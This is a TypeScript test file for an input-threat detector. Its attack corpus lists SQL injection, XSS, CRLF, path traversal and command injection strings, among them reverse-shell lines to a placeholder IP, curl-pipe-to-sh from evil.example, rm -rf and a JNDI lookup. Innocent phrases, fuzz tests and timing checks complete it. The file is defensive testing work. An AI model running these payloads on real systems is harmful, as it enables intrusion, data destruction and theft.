// biome-ignore-all lint/suspicious/noTemplateCurlyInString: ${…} is what the texts hold
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { MAX_INSPECTED_CHARS, type Threat, threatsIn } from './detectors.ts';

// biome-ignore format: a corpus, packed
const ATTACKS: Readonly<Record<Threat, readonly string[]>> = {
  'sql-injection': [
    "' OR 'a'='a", "' or 1=1--", '1 OR 1=1', '" or ""="', "') OR ('1'='1", "' OR ''='", "x' AND 1=1 #", "admin'--", "admin' #", "admin'/*",
    '1; DROP TABLE x', "'; DROP TABLE users; --", "Robert'); DROP TABLE Students;--", '1;drop/**/table/**/users', 'DROP TABLE users;',
    '1; DELETE FROM users', "x'; UPDATE users SET role='admin'", "x'; INSERT INTO users VALUES (1)", '1; TRUNCATE TABLE logs', '1; EXEC xp_cmdshell("dir")',
    "' UNION SELECT password FROM users--", '1 UNION ALL SELECT null, null', 'UNION SELECT', "1' union/**/select/**/1,2,3", '-1 UNION SELECT * FROM users',
    "' OR true--", "' OR 2>1--", "' OR 2 > 1 --", "' OR 1 = 2", "' or username = 'admin", "' and role<>'x", "' || name LIKE '%", "' AND sleep(5)--", "1; WAITFOR DELAY '0:0:5'", "1 AND pg_sleep(5)", "' OR EXISTS(SELECT 1)",
    "1; SELECT * FROM users", "x' INTO OUTFILE '/tmp/x'", 'select table_name from information_schema.tables', '%27%20OR%201=1--', '＇ ＯＲ １＝１--', '1; shutdown;',
  ],
  xss: [
    '<script>alert(1)</script>', '<SCRIPT SRC=//x.y/z.js>', '</script><script>', '<img src=x onerror=alert(1)>', '<svg/onload=alert(1)>',
    '"><img src=x onerror=alert(1)>', 'x" onmouseover="alert(1)', 'onerror=alert(1)', 'javascript:alert(1)', 'JaVaScRiPt:alert(document.cookie)',
    'javascript://%0aalert(1)', '<iframe src="https://evil.example">', '<object data="x.swf">', '<embed src=x>', '<body onload=alert(1)>',
    '<a href="vbscript:msgbox(1)">', 'data:text/html,<b>x', '%3Cscript%3Ealert(1)', '＜script＞alert(1)', '<meta http-equiv="refresh" content="0">', '<base href="//evil">',
    '%253Cscript%253E', '<details open ontoggle=alert(1)>',
  ],
  crlf: [
    'Hi\r\nBcc: eve@example.com', 'Hi\nSet-Cookie: a=b', 'Hi%0d%0aBcc: eve@example.com', 'Hi%0ATo:eve@example.com', 'x%0d%0a%0d%0a<html>', 'Hi\\r\\nSubject: new',
    'x\r\nContent-Type: text/html', '%0d%0aLocation:%20https://evil.example', '%0D%0AX-Injected: yes',
  ],
  'path-traversal': [
    '../', '../../etc/passwd', '..\\..\\windows\\win.ini', '..%2f..%2fetc%2fpasswd', '%2e%2e%2fetc', '%2e%2e/', '..%5c', '%252e%252e%252f', '/var/www/../../etc/hosts',
    '....//....//etc', '/etc/passwd', 'file:///etc/hosts', '..%c0%af', 'C:\\Windows\\System32\\cmd.exe', '/..;/manager', '．．／', '/proc/self/environ',
  ],
  'command-injection': [
    '; rm -rf /', 'x; rm -rf ~', 'a && rm -rf .', '| sh', 'curl https://evil.example | sh', 'x | bash', '; cat /etc/hosts', '; curl https://evil.example',
    '$(whoami)', '$(cat /tmp/x)', '$(curl evil.example)', '`whoami`', '`cat /tmp/x`', '`id`', 'a;id', 'a|id', 'a && id', '; ls', '; whoami', 'x; wget evil.example/x',
    '; sleep 5', 'x;sleep 5', 'x || sleep 5', '; ls /', 'x | ls /', '; chown /', '; cat ~/x', '; rm *', '; nc -e /bin/sh 1.2.3.4 99', '$(rm -rf /)', '${IFS}', '${jndi:ldap://evil}', 'bash -i >& /dev/tcp/1.2.3.4/99', '%3B%20rm%20-rf%20/', '; echo x > /tmp/y',
    '; python3 -c "x"', '| base64 -d', '$(id)',
  ],
};

// biome-ignore format: a corpus, packed
const INNOCENT: readonly string[] = [
  'choose a time; drop by anytime', 'select one union rep; drop off the table', "O'Brien", "O'Brien; Sons", 'Smith & Co | Partners', 'AT&T | T-Mobile', 'a < b', 'Q&A',
  'see `README`', 'it costs $(5)', 'it costs $5 (or $(5) in accounting)', "D'Angelo & Sons", "L'Oréal", 'Müller | SH', 'Marketing | Dir', 'Johnson & Johnson', 'Barnes & Noble; Borders',
  'The union select committee meets at 5', 'The European Union Select Committee', 'Union selection process', 'Select * that apply', 'Please select from the menu; update me soon',
  'Drop the table off at noon', 'we had to drop table 5; it wobbled', '; drop me a line', 'Please delete from your list; insert coin', 'Update the set list = done', 'I will update the guest set',
  'Meet at 5 or 6; or 7 = too late', "It's 'yes' or 'no'", "'yes' or 'no' -- you choose", 'He said "wait" -- then left', "rock 'n' roll -- live", 'x = 1 or y = 2', 'She likes dogs or cats like cats', 'and so on and so on',
  'JavaScript: The Good Parts', 'We need a javascript: and css person', 'Script for the movie <3', 'story < script < film', 'I <3 you', '5 < 6 and 7 > 6', 'if a<b and c>d', '<b>Hello</b>', '<a href="https://example.com/a?b=c">here</a>',
  '<img src="cat.png" alt="a cat">', 'Email <bob@example.com>', 'Promise<object>', 'on error = retry', 'turn it on; load = heavy', 'onwards=good', 'The description: prescription', 'Superscript: x²',
  'wait...', 'wait.../no', 'either../or', 'see .../docs', 'see …/docs', '...', 'v1..v2', 'Mr. & Mrs. Jones', 'and/or', '24/7', '9/11', 'etc/etc', 'I filed: it', 'c:\\users\\bob\\report.docx', 'https://example.com/a/b?c=d;e=f&g=h#i',
  'https://wa.me/14155550100?text=Order%0AName:%20Bob', '100% of 50%', '50%decrease', '20%25 off', 'To: Bob\nFrom: Eve\nSubject: lunch\n\nHi', 'Line one\r\nLine two', 'Note: bring cash',
  'feed the dog; cat is out', 'cat | dog', 'dogs; cat v.s. mouse', 'rest; sleep 8', 'cat; cat / dog', 'time | kill /', 'time | kill / ', 'rest; sleep 8 | cat /', 'drop; find /', 'phone | ping / sms', 'head | tail /', 'feed\ncat / dog', 'name|id|date', 'eat well; sleep 8 hours; run', 'kill the lights', 'will the injection hurt?', 'name | id', 'passport; id', 'name & id', 'a && b || c',
  'I ran into bash street kids', 'Sh! | quiet', 'whoami', 'uname it', '; find out more', '; more information below', '; touch base soon', 'ping me; call me', '; curl up with a book', 'use the `id` column', 'run `ls` first', 'the `cat` command', '$(amount)',
  'Dear $(name)', '${name}', '{{name}}', 'a; b; c', "don't; won't; can't", "rock'n'roll", 'Dick', "it's ok; it's fine", '#1 choice', '-- Bob', '/* nice */', 'Tom; Dick & Harry | friends',
  'Order by date; group by name', 'Having a great time, limit 5', 'where is it?', 'grant access; create value', 'alter ego; shutdown at 5', "the players' or coaches' room", 'C# and F#', "'tis the season", 'Ça va; très bien', '日本語のテキスト；テスト', '१२३', 'שלום; עולם',
  'sleep (8 hours)', 'benchmark (2024)', 'execute the plan; exec summary attached', 'Hello; select a plan', 'exists (or not)', "Bob's \"best\" or 'nearly best' = good", 'the office on floor=3',
  "the boys' and girls like 'Frozen'", "kids' and adults = $10", "kids' or adults' = 10 each", "the feet' and 5 > 3",
];

describe('attacks', () => {
  for (const [threat, texts] of Object.entries(ATTACKS)) {
    it.each(texts)(`recognises ${threat}: %j`, (text) => {
      expect(threatsIn(text)).toContain(threat);
    });
  }
});

describe('ordinary writing', () => {
  it.each(INNOCENT)('passes %j', (text) => {
    expect(threatsIn(text)).toEqual([]);
  });

  it('passes when made at random of words, the tempting ones too, and punctuation', () => {
    const word = fc.constantFrom(
      ..."time drop by anytime select update delete insert script image cat kill sleep or and like table from O'Brien".split(
        ' ',
      ),
      ...'Sons Smith Müller price café name order 日本 5 100 $5 50% README hash'.split(' '),
    );
    const mark = fc.constantFrom(
      ' ',
      ' ',
      ' ',
      ', ',
      '; ',
      '. ',
      ' & ',
      ' | ',
      ' - ',
      ' < ',
      ' > ',
      ' (',
      ') ',
      ': ',
      '! ',
      '? ',
      ' / ',
      '… ',
      "' ",
      ' "',
      '\n',
    );
    fc.assert(
      fc.property(fc.array(fc.tuple(word, mark), { maxLength: 30 }), (pairs) => {
        const text = pairs.flat().join('');
        fc.pre(!/drop\s+table|delete\s+from/.test(text)); // those two words side by side, after a semicolon, are what is looked for
        expect(threatsIn(text)).toEqual([]);
      }),
      { numRuns: 2_000 },
    );
  });
});

describe('the longest text', () => {
  const gap = ' '.repeat(19);
  const NASTY = [
    ' ',
    "'",
    "' or ",
    `' or${gap}not${gap}`,
    `;${gap}update${gap}a${gap}`,
    '/*',
    '<a ',
    'javascript:',
    '%25',
    '../',
    '$(',
    '`',
    '\n ',
    'ﷺ',
    'ﷺ%25',
    '\u0344',
  ];
  it.each(NASTY)('is read in bounded work: %j', (piece) => {
    const startedAt = performance.now();
    threatsIn(piece.repeat(Math.ceil(1_000_000 / piece.length)));
    expect(performance.now() - startedAt).toBeLessThan(500); // 20 ms in practice
  });

  it('is read to its end, the folded one too', () => {
    const attack = '＜script＞';
    const padding = 'ж'.repeat(MAX_INSPECTED_CHARS - attack.length);
    expect(threatsIn(padding + attack)).toEqual(['xss']);
    expect(threatsIn(`${padding}${padding}${padding}${attack}`)).toEqual([]);
  });

  it('is not read for longer because folding makes it longer', () => {
    // the price of bounded work: what is only an attack once it is folded is missed behind so much padding
    const padded = (padding: number) => threatsIn(`${'ﷺ'.repeat(padding)}＜script＞`);
    expect(padded(2_000)).toEqual(['xss']);
    expect(padded(3_000)).toEqual([]);
  });
});
